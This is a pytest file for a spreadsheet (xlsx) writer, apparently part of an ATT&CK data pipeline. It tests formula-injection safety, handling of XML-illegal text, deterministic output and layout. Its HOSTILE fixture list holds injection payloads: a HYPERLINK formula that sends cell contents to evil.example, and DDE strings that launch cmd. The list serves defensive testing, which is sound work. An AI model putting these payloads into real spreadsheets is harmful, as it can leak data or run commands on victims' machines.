"""The xlsx writer: formula-injection safety, XML-hostile text, determinism, layout.

Every workbook is read back with openpyxl, and the raw sheet XML is checked too:
a reader's view alone could hide a formula element it chose not to evaluate.
"""

from __future__ import annotations

import re
import zipfile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.core.errors import ConfigError
from pipeline.excel.xlsx import (
    MAX_CELL_CHARS,
    Sheet,
    SheetCache,
    Styled,
    column_letter,
    safe_sheet_name,
    write_workbook,
)

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=1+1",
    "+SUM(A1:A2)",
    "-2+3",
    "@SUM(A1)",
    "\t=cmd|' /C calc'!A0",
    "\r=cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "\x00=starts with NUL then equals",
    "\x07@bell then at",
]
_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
_FORMULA_ELEMENT = re.compile(rb"<f[\s>/]")


def sheet_xml(path, index=1) -> bytes:
    with zipfile.ZipFile(path) as zf:
        return zf.read(f"xl/worksheets/sheet{index}.xml")


def expected_text(value: str) -> str:
    """What openpyxl reads back: XML-illegal characters dropped, a literal `_xHHHH_`
    escaped (Excel decodes the escape; openpyxl leaves it as written)."""
    clean = _ILLEGAL.sub("", value)
    if len(clean) > MAX_CELL_CHARS:
        clean = clean[: MAX_CELL_CHARS - len(" …[truncated]")] + " …[truncated]"
    return re.sub(r"_(x[0-9A-Fa-f]{4}_)", r"_x005F_\1", clean)


def test_hostile_text_is_text_never_a_formula(tmp_path):
    path = tmp_path / "hostile.xlsx"
    rows = [[v, f"plain {i}"] for i, v in enumerate(HOSTILE)]
    write_workbook(path, [Sheet("techniques", ["=name", "description"], rows)])

    raw = sheet_xml(path)
    assert not _FORMULA_ELEMENT.search(raw)
    ws = openpyxl.load_workbook(path).active
    header = ws["A1"]
    assert (header.value, header.data_type, header.quotePrefix, header.font.b) == ("=name", "s", True, True)
    for i, value in enumerate(HOSTILE, start=2):
        cell = ws.cell(row=i, column=1)
        assert cell.data_type == "s", value
        assert cell.value == _ILLEGAL.sub("", value)
        # Typed again in Excel, a quote-prefixed cell stays text.
        assert cell.quotePrefix is True, value
        plain = ws.cell(row=i, column=2)
        assert plain.data_type == "s" and plain.quotePrefix is False


def test_hostile_text_in_a_styled_cell_keeps_style_and_quote(tmp_path):
    path = tmp_path / "styled.xlsx"
    write_workbook(path, [Sheet("s", ["a"], [[Styled("=2*3", fill="d73027", bold=True)]])])
    cell = openpyxl.load_workbook(path).active["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix, cell.font.b) == ("=2*3", "s", True, True)
    assert cell.fill.fgColor.rgb == "FFD73027"
    assert not _FORMULA_ELEMENT.search(sheet_xml(path))


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text(max_size=40), min_size=1, max_size=6))
def test_any_text_reads_back_as_the_same_text(tmp_path_factory, values):
    path = tmp_path_factory.mktemp("prop") / "p.xlsx"
    write_workbook(path, [Sheet("p", [f"c{i}" for i in range(len(values))], [values])])
    assert not _FORMULA_ELEMENT.search(sheet_xml(path))
    ws = openpyxl.load_workbook(path).active
    for i, value in enumerate(values, start=1):
        cell = ws.cell(row=2, column=i)
        want = expected_text(value)
        if want == "":
            assert cell.value is None
            continue
        assert cell.data_type == "s"
        assert cell.value == want
        assert cell.quotePrefix is (want[0] in "=+-@\t\r\n")


def test_scalar_types_and_truncation(tmp_path):
    path = tmp_path / "types.xlsx"
    long_text = "x" * (MAX_CELL_CHARS + 10)
    report = write_workbook(path, [Sheet("t", ["a", "b", "c", "d", "e"], [[3, 2.5, True, None, long_text], [float("nan"), -1, False, "", "ok"]])])
    assert report.truncated_cells == 1 and report.rows == 2
    ws = openpyxl.load_workbook(path).active
    assert [(c.value, c.data_type) for c in ws[2][:3]] == [(3, "n"), (2.5, "n"), (True, "b")]
    assert ws["D2"].value is None
    assert len(ws["E2"].value) == MAX_CELL_CHARS and ws["E2"].value.endswith("[truncated]")
    assert (ws["A3"].value, ws["A3"].data_type) == ("nan", "s")
    assert (ws["B3"].value, ws["C3"].value, ws["D3"].value) == (-1, False, None)


def test_layout_frozen_header_filter_widths_merges(tmp_path):
    path = tmp_path / "layout.xlsx"
    rows = [["T1046", "Network Service Discovery", "d" * 200], ["T1003", "OS Credential Dumping", ""]]
    sheets = [
        Sheet("techniques", ["ID", "name", "description"], rows),
        Sheet("matrix", ["Discovery", ""], [["a", "b"]], widths=[20, 20], autofilter=False, merges=("A1:B1",)),
    ]
    write_workbook(path, sheets, title="T")
    wb = openpyxl.load_workbook(path)
    ws = wb["techniques"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:C3"
    assert ws.column_dimensions["A"].width == 8 and ws.column_dimensions["C"].width == 60
    assert ws.column_dimensions["B"].width == len("Network Service Discovery") + 1
    m = wb["matrix"]
    assert m.auto_filter.ref is None and [str(r) for r in m.merged_cells.ranges] == ["A1:B1"]
    assert m.column_dimensions["A"].width == 20
    assert wb.properties.title == "T" and wb.properties.creator == "attack-pipeline"


def test_same_input_same_bytes_and_fixed_times(tmp_path, monkeypatch):
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    sheets = [Sheet("a", ["x", "y"], [["1", Styled("g", fill="1a9850")], ["=2", 3]]), Sheet("b", ["z"], [["q"]])]
    first, second = tmp_path / "1.xlsx", tmp_path / "2.xlsx"
    write_workbook(first, sheets)
    write_workbook(second, sheets)
    assert first.read_bytes() == second.read_bytes()
    with zipfile.ZipFile(first) as zf:
        names = zf.namelist()
        assert names[0] == "[Content_Types].xml" and names[-1] == "xl/styles.xml"
        assert {i.date_time for i in zf.infolist()} == {(2000, 1, 1, 0, 0, 0)}
    props = openpyxl.load_workbook(first).properties
    assert str(props.created) == str(props.modified) == "2000-01-01 00:00:00"

    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    third = tmp_path / "3.xlsx"
    write_workbook(third, sheets)
    with zipfile.ZipFile(third) as zf:
        assert {i.date_time for i in zf.infolist()} == {(2023, 11, 14, 22, 13, 20)}
    assert str(openpyxl.load_workbook(third).properties.created) == "2023-11-14 22:13:20"

    monkeypatch.setenv("SOURCE_DATE_EPOCH", "yesterday")
    with pytest.raises(ConfigError, match="SOURCE_DATE_EPOCH"):
        write_workbook(tmp_path / "4.xlsx", sheets)


def test_sheet_cache_gives_the_bytes_of_a_fresh_write(tmp_path):
    plain = Sheet("plain", ["a"], [["x"], ["=y"]])
    styled = Sheet("styled", ["a"], [[Styled("r", fill="d73027")], [Styled("g", fill="1a9850")]])
    other = Sheet("other", ["a"], [[Styled("b", fill="4575b4")]])
    books = [[plain, styled], [other, styled, plain], [styled]]
    cache = SheetCache()
    for i, sheets in enumerate(books):
        write_workbook(tmp_path / f"cached{i}.xlsx", sheets, cache=cache)
        write_workbook(tmp_path / f"fresh{i}.xlsx", sheets)
        assert (tmp_path / f"cached{i}.xlsx").read_bytes() == (tmp_path / f"fresh{i}.xlsx").read_bytes()
    ws = openpyxl.load_workbook(tmp_path / "cached1.xlsx")["styled"]
    assert [ws["A2"].fill.fgColor.rgb, ws["A3"].fill.fgColor.rgb] == ["FFD73027", "FF1A9850"]


def test_sheet_names_are_made_valid_and_unique():
    assert safe_sheet_name("a/b:c*d?e[f]g\\h") == "a b c d e f g h"
    assert safe_sheet_name("x" * 40) == "x" * 31
    assert safe_sheet_name("Techniques", ["techniques"]) == "Techniques (2)"
    assert safe_sheet_name("'quoted'") == "quoted"
    assert safe_sheet_name("") == "sheet"


def test_column_letters():
    assert [column_letter(i) for i in (0, 25, 26, 51, 52, 701, 702, 16383)] == ["A", "Z", "AA", "AZ", "BA", "ZZ", "AAA", "XFD"]


def test_limits_and_bad_input_are_refused(tmp_path):
    with pytest.raises(ValueError, match="at least one sheet"):
        write_workbook(tmp_path / "none.xlsx", [])
    with pytest.raises(ValueError, match="six hex digits"):
        write_workbook(tmp_path / "fill.xlsx", [Sheet("s", ["a"], [[Styled("x", fill="red")]])])
    assert not (tmp_path / "fill.xlsx").exists() and not list(tmp_path.glob(".*.tmp"))


def test_a_row_on_several_sheets_lands_on_its_own_row_each_time(tmp_path):
    shared = ("T1046", "=HYPERLINK(\"x\")", 7, "a & b")
    styled = (Styled("r", fill="d73027"), "s")
    first = Sheet("first", ["a", "b", "c", "d"], [shared, styled])
    second = Sheet("second", ["a", "b", "c", "d"], [("x",), ("y",), styled, shared])
    cache = SheetCache()
    write_workbook(tmp_path / "one.xlsx", [first], cache=cache)
    write_workbook(tmp_path / "two.xlsx", [Sheet("other", ["a"], [[Styled("b", fill="4575b4")]]), second], cache=cache)
    ws = openpyxl.load_workbook(tmp_path / "two.xlsx")["second"]
    assert [c.value for c in ws[5]] == list(shared)
    assert ws["B5"].data_type == "s" and ws["B5"].quotePrefix is True
    assert ws["A4"].value == "r" and ws["A4"].fill.fgColor.rgb == "FFD73027"
    assert [ws["A2"].value, ws["A3"].value] == ["x", "y"]
    write_workbook(tmp_path / "fresh.xlsx", [Sheet("other", ["a"], [[Styled("b", fill="4575b4")]]), second])
    assert (tmp_path / "fresh.xlsx").read_bytes() == (tmp_path / "two.xlsx").read_bytes()
